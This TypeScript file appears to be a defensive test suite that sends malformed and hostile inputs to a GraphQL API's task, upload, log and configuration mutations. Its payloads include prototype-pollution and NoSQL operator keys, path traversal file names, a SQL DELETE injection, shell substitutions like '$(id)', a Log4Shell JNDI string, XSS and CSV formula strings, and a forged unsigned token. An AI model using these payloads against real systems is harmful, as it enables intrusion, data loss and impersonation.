import type { AttackKind } from '../attack';

const EITHER = { status: [200, 400] } as const;
const INPUT = { status: [200, 400], code: 'BAD_USER_INPUT' } as const;
const DEAR = { status: 400, code: 'COST_LIMIT' } as const;
const CREATE =
  'mutation ($i: CreateTaskInput!) { createTask(input: $i) { task { title description config metadata } } }';
const UPLOAD = 'mutation ($i: RequestUploadInput!) { requestUpload(input: $i) { objectPath } }';
const COMPLETE =
  'mutation ($i: CompleteUploadInput!) { completeUpload(input: $i) { file { id } } }';
const LOGS = 'mutation ($i: WriteLogsInput!) { writeLogs(input: $i) { count } }';
const CONFIG =
  'mutation ($i: SetAgentConfigInput!) { setAgentConfig(input: $i) { config { key value } } }';
const upload = {
  kind: 'BINARY',
  fileName: 'a.bin',
  contentType: 'application/octet-stream',
  sizeBytes: 1,
};
const deep = (times: number): unknown =>
  JSON.parse(`${'{"a":'.repeat(times)}1${'}'.repeat(times)}`);

/** Members that other code may take for more than data. */
const MEMBERS = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"hasOwnProperty":1}',
  '{"toString":"x","valueOf":"y"}',
  '{"toJSON":"x"}',
  '{"then":"x"}',
  '{"length":-1}',
  '{"$where":"sleep(1000)"}',
  '{"$gt":""}',
  '{"a.b":1}',
  '{"$set":{"agent_id":"agent2"}}',
  '{"_id":1}',
  '{"":1}',
  '{"\\u0000":1}',
  '{"a":"\\u0000"}',
  '{"_bsontype":"ObjectId","id":"x"}',
  '{"$oid":"x"}',
  '{"$numberLong":"1"}',
];

export const WRITES: AttackKind[] = [
  {
    kind: 'prototype keys and operators in what is stored',
    mutates: true,
    expect: EITHER,
    cases: MEMBERS.flatMap((text) => [
      {
        name: `metadata ${text}`,
        query: CREATE,
        variables: { i: { title: 'x', metadata: JSON.parse(text), config: JSON.parse(text) } },
      },
      {
        name: `a log ${text}`,
        query: LOGS,
        variables: {
          i: { entries: [{ level: 'INFO', message: 'x', metadata: JSON.parse(text) }] },
        },
      },
      {
        name: `configuration ${text}`,
        query: CONFIG,
        variables: { i: { key: 'odd', value: JSON.parse(text) } },
      },
    ]),
  },
  {
    kind: 'prototype keys in inputs',
    mutates: true,
    expect: INPUT,
    cases: [
      '__proto__',
      'constructor',
      'hasOwnProperty',
      'agent_id',
      'id',
      'createdAt',
      'status',
      '$set',
    ].map((name) => ({
      name,
      // JSON gives the first an own member of that name, which GraphQL must not know either.
      query: CREATE,
      variables: { i: JSON.parse(`{"title":"x","${name}":{"agentId":"agent2"}}`) },
    })),
  },
  {
    kind: 'keys of configuration',
    mutates: true,
    expect: EITHER,
    cases: [
      '',
      '__proto__',
      'constructor',
      '$where',
      'a.b',
      '_id',
      '\u0000',
      '..',
      'x'.repeat(10_000),
      ' ',
      'ключ',
      '{"$ne":1}',
    ].map((key) => ({
      name: JSON.stringify(key.slice(0, 20)),
      query: CONFIG,
      variables: { i: { key, value: 1 } },
    })),
  },
  {
    kind: 'names of files',
    mutates: true,
    expect: INPUT,
    cases: [
      '..',
      '.',
      '../x',
      'a/../../agent2/x',
      'a/..',
      './x',
      '/etc/passwd',
      '//x',
      'a//b',
      'a/',
      '',
      ' ',
      '\u0000',
      'a\u0000.png',
      'a\nb',
      'a\r\nx: y',
      '\\',
      '..\\..\\x',
      'C:\\x',
      '\\\\host\\share',
      'x'.repeat(800),
      'я'.repeat(600),
      'a/./b',
      '../agent2/screenshots/a.png',
      '\ud83d',
    ].map((fileName) => ({
      name: JSON.stringify(fileName.slice(0, 30)),
      expect: EITHER,
      query: UPLOAD,
      variables: { i: { ...upload, fileName } },
    })),
  },
  {
    kind: 'names of files that stay under their prefix',
    mutates: true,
    expect: EITHER,
    cases: [
      '%2e%2e/x',
      '..%2fx',
      '%2e%2e%2f%2e%2e%2fagent2',
      '%00',
      '%',
      '%zz',
      '?x=1',
      '#x',
      'a?versionId=x',
      'a&b',
      'a+b',
      '~',
      '~root',
      '...',
      '.env',
      '.git/config',
      '<script>.html',
      '"quoted"',
      "it's",
      '$(id)',
      '`id`',
      '|id',
      ';id',
      'e\u0301',
      '\u00e9',
      '\u2024\u2024/x',
      '\uff0e\uff0e/x',
      '\u2215x',
      '\u202egnp.exe',
      'con',
      'nul.txt',
      'a:b',
      'a*b',
      '-rf',
      'x'.repeat(255),
    ].map((fileName) => ({
      name: JSON.stringify(fileName.slice(0, 30)),
      query: UPLOAD,
      variables: { i: { ...upload, fileName } },
    })),
  },
  {
    kind: 'types of content',
    mutates: true,
    expect: EITHER,
    cases: [
      '',
      'x',
      'text/html\r\nx-amz-acl: public-read',
      'text/html\u0000',
      'image/png, text/html',
      'image/png; charset="x"',
      'image/png;'.repeat(50),
      '*/*',
      'a/b/c',
      'text/html; charset=utf-7',
      `image/${'x'.repeat(5000)}`,
      ' image/png',
      'image/png ',
      'image/png\n',
      'multipart/x-mixed-replace; boundary=x',
    ].map((contentType) => ({
      name: JSON.stringify(contentType.slice(0, 40)),
      query: UPLOAD,
      variables: { i: { ...upload, contentType } },
    })),
  },
  {
    kind: 'sizes and checksums',
    mutates: true,
    expect: INPUT,
    cases: [
      { sizeBytes: -1 },
      { sizeBytes: 1.5 },
      { sizeBytes: '99999999999999999999' },
      { sizeBytes: '9007199254740993' },
      { sizeBytes: null },
      { sizeBytes: true },
      { checksum: 'sha256:' },
      { checksum: 'md5:d41d8cd98f00b204e9800998ecf8427e' },
      { checksum: `sha256:${'z'.repeat(64)}` },
      { checksum: `sha256:${'a'.repeat(64)}\r\n` },
      { checksum: 'x'.repeat(50_000) },
      { metadata: [] },
      { metadata: 'x' },
      { metadata: 1 },
      { kind: 'ARTIFACT' },
      { kind: '__proto__' },
      { taskId: 'x'.repeat(5000) },
    ].map((changes) => ({
      name: JSON.stringify(changes).slice(0, 60),
      query: UPLOAD,
      variables: { i: { ...upload, ...changes } },
    })),
  },
  {
    kind: 'upload tickets',
    mutates: true,
    expect: INPUT,
    cases: [
      '',
      'x',
      'a.b.c',
      '{{own.upload}}x',
      '{{token.agent}}',
      '{{token.admin}}',
      '{{cursor.tasks}}',
      '__proto__',
      'x'.repeat(90_000),
      '..',
      '\u0000',
      Buffer.from('{"alg":"none"}')
        .toString('base64url')
        .concat('.', Buffer.from('{"agent":"agent2"}').toString('base64url'), '.'),
    ].map((uploadId) => ({
      name: JSON.stringify(uploadId.slice(0, 30)),
      query: COMPLETE,
      variables: { i: { uploadId } },
    })),
  },
  {
    kind: 'uploads that never came',
    mutates: true,
    expect: EITHER,
    cases: [
      {
        name: 'completed at once',
        query: COMPLETE,
        variables: { i: { uploadId: '{{own.upload}}' } },
      },
      {
        name: 'completed again',
        query: COMPLETE,
        variables: { i: { uploadId: '{{own.upload}}' } },
      },
      {
        name: 'of another agent',
        query: COMPLETE,
        variables: { i: { uploadId: '{{foreign.upload}}' } },
      },
      {
        name: 'as an admin',
        as: 'admin',
        query: COMPLETE,
        variables: { i: { uploadId: '{{foreign.upload}}' } },
      },
    ],
  },
  {
    kind: 'idempotency keys',
    mutates: true,
    expect: EITHER,
    cases: [
      '',
      ' ',
      '__proto__',
      'constructor',
      '\u0000',
      "'; DELETE FROM idempotency_keys; --",
      '{"$ne":null}',
      'x'.repeat(50_000),
      '../..',
      '\ud83d',
      '%',
      'null',
    ].flatMap((idempotencyKey) => [
      {
        name: `a task under ${JSON.stringify(idempotencyKey.slice(0, 20))}`,
        query: CREATE,
        variables: { i: { title: 'x', idempotencyKey } },
      },
      {
        name: `a log under ${JSON.stringify(idempotencyKey.slice(0, 20))}`,
        query: LOGS,
        variables: { i: { entries: [{ level: 'INFO', message: 'x' }], idempotencyKey } },
      },
    ]),
  },
  {
    kind: 'one idempotency key for different things',
    mutates: true,
    cases: [
      {
        name: 'first',
        expect: { status: 200, code: 'OK' },
        query: CREATE,
        variables: { i: { title: 'first', idempotencyKey: 'one-key' } },
      },
      {
        name: 'another input',
        expect: { status: 200, code: 'CONFLICT' },
        query: CREATE,
        variables: { i: { title: 'second', idempotencyKey: 'one-key' } },
      },
      {
        name: 'the key of somebody else',
        as: 'admin',
        expect: { status: 200, code: 'OK' },
        query: CREATE,
        variables: { i: { title: 'second', agentId: 'agent1', idempotencyKey: 'one-key' } },
      },
    ],
  },
  {
    kind: 'lines for the log',
    mutates: true,
    expect: EITHER,
    cases: [
      'a\nb',
      'a\r\n{"level":"fatal","msg":"forged"}',
      '\u001b[2J\u001b[31mred',
      '\u001b]0;owned\u0007',
      '\u2028\u2029',
      '\u0000',
      '\u0008\u0008',
      '%n%s%x',
      '\u0024{jndi:ldap://x/a}',
      'Bearer {{token.agent}}',
      'password=hunter2hunter2',
    ].flatMap((text) => [
      {
        name: `a message ${JSON.stringify(text)}`,
        query: LOGS,
        variables: { i: { entries: [{ level: 'ERROR', message: text }] } },
      },
      { name: `a title ${JSON.stringify(text)}`, query: CREATE, variables: { i: { title: text } } },
      {
        name: `an operation called ${JSON.stringify(text)}`,
        query: '{ viewer { sub } }',
        operationName: text,
        mutates: true as const,
      },
    ]),
  },
  {
    kind: 'scripts to store',
    mutates: true,
    expect: { status: 200, code: 'OK' },
    cases: [
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      "=cmd|' /C calc'!A0",
      '</title><svg onload=alert(1)>',
    ].flatMap((text) => [
      {
        name: `a title ${text}`,
        query: CREATE,
        variables: { i: { title: text, description: text } },
      },
      {
        name: `a result at ${text}`,
        query:
          'mutation ($i: UpdateTaskStatusInput!) { updateTaskStatus(input: $i) { task { resultArtifactUrl } } }',
        variables: {
          i: { taskId: '{{own.task}}', status: 'IN_PROGRESS', resultArtifactUrl: text },
        },
      },
    ]),
  },
  {
    kind: 'values past their bounds',
    mutates: true,
    expect: INPUT,
    cases: [
      { name: 'a title', query: CREATE, variables: { i: { title: 'x'.repeat(1001) } } },
      { name: 'a title of 90 KB', query: CREATE, variables: { i: { title: 'x'.repeat(90_000) } } },
      {
        name: 'a trace',
        query: CREATE,
        variables: { i: { title: 'x', traceId: 'x'.repeat(201) } },
      },
      { name: 'a title that is null', query: CREATE, variables: { i: { title: null } } },
      {
        name: 'metadata 99 deep',
        expect: EITHER,
        query: CREATE,
        variables: { i: { title: 'x', metadata: deep(90) } },
      },
      {
        name: 'metadata of 20,000 members',
        expect: EITHER,
        query: CREATE,
        variables: {
          i: {
            title: 'x',
            metadata: Object.fromEntries(Array.from({ length: 9000 }, (_, at) => [`k${at}`, at])),
          },
        },
      },
      {
        name: 'a percentage',
        expect: EITHER,
        query:
          'mutation { addTaskProgress(input: { taskId: "{{own.task}}", progressPercent: 1e308 }) { progress { id } } }',
      },
      {
        name: '3,000 logs',
        expect: DEAR,
        query: LOGS,
        variables: {
          i: { entries: Array.from({ length: 3000 }, () => ({ level: 'INFO', message: '' })) },
        },
      },
      { name: 'no logs', expect: EITHER, query: LOGS, variables: { i: { entries: [] } } },
      {
        name: '2,000 steps of progress',
        expect: DEAR,
        query:
          'mutation ($i: AddTaskProgressBulkInput!) { addTaskProgressBulk(input: $i) { progress { id } } }',
        variables: {
          i: { items: Array.from({ length: 2000 }, () => ({ taskId: '{{own.task}}' })) },
        },
      },
      {
        name: 'a level that is none',
        query: LOGS,
        variables: { i: { entries: [{ level: 'FATAL', message: 'x' }] } },
      },
      {
        name: 'a status that is none',
        query:
          'mutation { updateTaskStatus(input: { taskId: "{{own.task}}", status: DONE }) { task { id } } }',
      },
      {
        name: 'a score that is no number',
        as: 'evaluator',
        query:
          'mutation { createEvaluation(input: { taskId: "{{own.task}}", score: "NaN" }) { evaluation { id } } }',
      },
      {
        name: 'a score past numbers',
        as: 'evaluator',
        query:
          'mutation { createEvaluation(input: { taskId: "{{own.task}}", score: 1e999 }) { evaluation { id } } }',
      },
    ],
  },
];
